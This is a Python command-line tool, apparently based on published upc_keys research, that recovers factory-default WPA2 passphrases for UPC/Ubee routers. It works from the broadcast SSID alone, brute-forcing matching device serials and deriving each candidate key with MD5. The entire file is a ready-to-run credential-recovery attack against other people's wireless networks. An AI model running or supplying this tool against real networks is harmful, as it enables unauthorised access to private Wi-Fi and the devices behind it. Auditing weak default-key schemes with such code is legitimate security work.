#!/usr/bin/env python3
"""
UPC default WPA2 passphrase generator
Recovers factory passwords for UPC/Ubee routers broadcasting UPCxxxxxxx SSIDs.
Based on the upc_keys research by blasty (http://haxx.in/upc_keys.c)
"""

import sys
import hashlib
import logging
import argparse
from functools import partial
from multiprocessing import Pool
from typing import Iterator, List, Tuple, Union


log = logging.getLogger(__name__)

MASK32 = 0xFFFFFFFF

# Band identifiers
BAND_24 = 0
BAND_5 = 1

# Serial number digit bounds (d0, d1, d2, d3)
MAX0 = 9
MAX1 = 99
MAX2 = 9
MAX3 = 9999

SERIAL_PREFIX = 'SAAP'
SSID_PREFIX_LEN = 3

PASSWORD_LEN = 8


class UpcKeysError(Exception):
    """Base class for all upckeys errors"""


class InvalidInput(UpcKeysError, ValueError):
    """Malformed or out of range SSID suffix or band"""


class HashUnavailable(UpcKeysError, RuntimeError):
    """MD5 cannot be constructed by this interpreter"""


class Band:
    def __init__(self, id: int, name: str, magic: int, reverse_serial: bool, aliases: List[str] = None):
        self.id = id
        self.name = name
        self.magic = magic
        self.reverse_serial = reverse_serial
        self.aliases = aliases or []

    def __repr__(self):
        return f'Band({self.name})'


BANDS = {
    BAND_24: Band(BAND_24, '2.4GHz', 0xff8d8f20, False, ['2.4', '24', '2.4ghz', '2g']),
    # TODO SAPP? the 5GHz firmware may use a different serial prefix, unconfirmed
    BAND_5: Band(BAND_5, '5GHz', 0xffd9da60, True, ['5', '5ghz', '5g']),
}


def get_band(value: Union[int, str, Band]) -> Band:
    """Resolve a band from its id, a Band or a command line spelling"""
    if isinstance(value, Band):
        return value
    if isinstance(value, int) and value in BANDS:
        return BANDS[value]
    if isinstance(value, str):
        key = value.strip().lower()
        for band in BANDS.values():
            if key in band.aliases:
                return band
    raise InvalidInput(f'unknown band: {value!r}')


def parse_target(text: str) -> int:
    """Parse the numeric SSID suffix into a 32-bit checksum target"""
    digits = text.strip()
    if not digits or not (digits.isascii() and digits.isdigit()):
        raise InvalidInput(f'SSID suffix is not a decimal number: {text!r}')
    target = int(digits, 10)
    if target > MASK32:
        raise InvalidInput(f'SSID suffix does not fit in 32 bits: {text!r}')
    return target


def ssid_target(ssid: str) -> int:
    """Strip the 3-character vendor prefix (UPC) and parse the rest"""
    ssid = ssid.strip()
    if len(ssid) <= SSID_PREFIX_LEN:
        raise InvalidInput(f'SSID too short: {ssid!r}')
    return parse_target(ssid[SSID_PREFIX_LEN:])


def upc_checksum(d0: int, d1: int, d2: int, d3: int, magic: int) -> int:
    """SSID suffix the firmware derives from serial digits (mod 2**32)"""
    a = (d1 * 10 + d2) & MASK32
    b = (d0 * 2500000 + a * 6800 + d3 + magic) & MASK32
    # the firmware's signed division fix-up drops one from the quotient
    # whenever bit 31 is set, keep it
    q = ((b // 10000000) - (b >> 31)) & MASK32
    return (b - q * 10000000) & MASK32


def format_serial(d0: int, d1: int, d2: int, d3: int) -> str:
    return f'{SERIAL_PREFIX}{d0}{d1:02d}{d2}{d3:04d}'


def serial_digits(serial: str) -> Tuple[int, int, int, int]:
    """Split a SAAP serial back into its (d0, d1, d2, d3) digits"""
    body = serial[len(SERIAL_PREFIX):]
    if len(body) != 8 or not body.isdigit():
        raise InvalidInput(f'not a serial: {serial!r}')
    return int(body[0]), int(body[1:3]), int(body[3]), int(body[4:8])


def _serials_for_d0(d0: int, magic: int, target: int) -> List[str]:
    """All matching serials whose leading digit is d0, in enumeration order"""
    found = []
    for d1 in range(MAX1 + 1):
        for d2 in range(MAX2 + 1):
            for d3 in range(MAX3 + 1):
                if upc_checksum(d0, d1, d2, d3, magic) == target:
                    found.append(format_serial(d0, d1, d2, d3))
    return found


def generate_serials(band: Union[int, str, Band], target: int, workers: int = 1) -> Iterator[str]:
    """
    Yield every serial whose checksum matches target

    Candidates are visited d0 outermost, d3 innermost. With workers > 1 the
    d0 slices are computed in a process pool and yielded back in d0 order,
    so the output is identical to the serial run.
    """
    band = get_band(band)
    magic = band.magic
    count = 0

    if workers > 1:
        log.debug('Enumerating %s serials with %d workers', band.name, workers)
        with Pool(processes=min(workers, MAX0 + 1)) as pool:
            worker = partial(_serials_for_d0, magic=magic, target=target)
            for serials in pool.imap(worker, range(MAX0 + 1)):
                for serial in serials:
                    count += 1
                    log.debug('Checksum match: %s', serial)
                    yield serial
    else:
        for d0 in range(MAX0 + 1):
            for d1 in range(MAX1 + 1):
                for d2 in range(MAX2 + 1):
                    for d3 in range(MAX3 + 1):
                        if upc_checksum(d0, d1, d2, d3, magic) == target:
                            count += 1
                            serial = format_serial(d0, d1, d2, d3)
                            log.debug('Checksum match: %s', serial)
                            yield serial

    log.info('%s: %d serial(s) match target %d', band.name, count, target)


def mangle(pp: List[int]) -> int:
    """Fold four 16-bit digest words into one 32-bit word"""
    a = pp[3] // 9999
    b = (((pp[3] - a * 9999 + 1) & MASK32) * 11) & MASK32
    return (b * ((pp[1] * 100 + pp[2] * 10 + pp[0]) & MASK32)) & MASK32


def hash2pass(digest: bytes) -> str:
    """Map the first 8 digest bytes onto A-Z without I, L and O"""
    password = []
    for i in range(PASSWORD_LEN):
        a = (digest[i] & 0x1f) % 23
        a = (a & 0xff) + 0x41

        # each skip re-tests the already shifted letter
        if a >= ord('I'):
            a += 1
        if a >= ord('L'):
            a += 1
        if a >= ord('O'):
            a += 1

        password.append(chr(a))
    return ''.join(password)


def md5_digest(data: bytes) -> bytes:
    try:
        h = hashlib.md5(usedforsecurity=False)
    except ValueError as e:
        raise HashUnavailable('MD5 is not available in this Python build') from e
    h.update(data)
    return h.digest()


def digest_words(digest: bytes, offset: int) -> List[int]:
    """Four little-endian 16-bit words from digest[offset:offset + 8]"""
    return [digest[offset + 2 * i] | (digest[offset + 2 * i + 1] << 8) for i in range(4)]


def derive_password(serial: str, band: Union[int, str, Band]) -> str:
    """Factory WPA2 passphrase for a serial on the given band"""
    band = get_band(band)
    if band.reverse_serial:
        serial = serial[::-1]

    h1 = md5_digest(serial.encode('utf-8'))
    w1 = mangle(digest_words(h1, 0))
    w2 = mangle(digest_words(h1, 8))

    h2 = md5_digest(f'{w1:08X}{w2:08X}'.encode('utf-8'))
    return hash2pass(h2)


def _candidates(band: Band, target: int, workers: int) -> Iterator[Tuple[str, str]]:
    for serial in generate_serials(band, target, workers):
        yield serial, derive_password(serial, band)


def get_candidates(target: Union[int, str], band: Union[int, str, Band], workers: int = 1) -> Iterator[Tuple[str, str]]:
    """
    Lazily produce (serial, password) pairs for an SSID suffix

    Args:
        target: numeric SSID suffix, as an int or a digit string
        band: BAND_24, BAND_5 or a command line band spelling
        workers: number of processes to spread the enumeration over

    Returns:
        Iterator of (serial, password) tuples in enumeration order

    Input and environment errors are raised here, before any candidate is
    evaluated.
    """
    if isinstance(target, str):
        target = parse_target(target)
    elif isinstance(target, bool) or not isinstance(target, int) or not 0 <= target <= MASK32:
        raise InvalidInput(f'target must be an unsigned 32-bit integer: {target!r}')
    band = get_band(band)
    if workers < 1:
        raise InvalidInput(f'workers must be positive: {workers!r}')

    # fail now rather than after the first match
    md5_digest(b'')

    log.info('Searching %s candidates for target %07d', band.name, target)
    return _candidates(band, target, workers)


def main():
    parser = argparse.ArgumentParser(
        description='UPC default WPA2 passphrase generator - derive candidate keys from the SSID',
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog='''
Examples:
  %(prog)s UPC1234567                     # Both bands
  %(prog)s UPC1234567 --band 5            # 5GHz network only
  %(prog)s 1234567 --no-prefix -w 4       # Bare suffix, 4 worker processes
        '''
    )

    parser.add_argument('ssid', help='Network SSID, e.g. UPC1234567')
    parser.add_argument('--band', choices=['2.4', '5', 'both'], default='both',
                        help='Radio band of the network (default: both)')
    parser.add_argument('--no-prefix', action='store_true',
                        help='SSID argument is only the numeric suffix')
    parser.add_argument('-w', '--workers', type=int, default=1,
                        help='Worker processes for the serial search')
    parser.add_argument('-v', '--verbose', action='store_true', help='Debug logging')

    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format='%(asctime)s %(levelname)s %(name)s: %(message)s',
    )

    bands = [BAND_24, BAND_5] if args.band == 'both' else [get_band(args.band)]

    try:
        target = parse_target(args.ssid) if args.no_prefix else ssid_target(args.ssid)
        results = []
        for band in bands:
            for serial, password in get_candidates(target, band, args.workers):
                results.append((serial, password, get_band(band).name))
    except UpcKeysError as e:
        print(f'Error: {e}', file=sys.stderr)
        return 2

    if not results:
        print('No candidate keys found')
        return 1

    print(f'\nCandidate keys for target {target:07d}\n')

    for serial, password, band_name in results:
        print(f'{serial:12s}  |  {password}  |  {band_name}')

    print()
    return 0


if __name__ == '__main__':
    sys.exit(main())
